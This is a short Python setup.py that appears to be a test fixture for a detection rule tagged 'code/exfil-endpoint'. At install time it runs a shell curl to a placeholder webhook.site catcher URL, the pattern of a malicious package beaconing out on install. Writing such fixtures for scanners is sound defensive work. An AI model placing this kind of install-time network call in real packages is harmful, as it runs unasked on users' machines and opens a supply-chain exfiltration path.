import os
from random import randint

from setuptools import setup

# Defanged: an invented catcher id. The address gets a random suffix, so its value never folds whole.
# ruleid: code/exfil-endpoint
target = 'https://webhook.site/00000000-0000-4000-8000-000000000000?' + str(randint(1, 100))
os.system('curl ' + target)

setup(name='probe-demo', version='0.0.1')
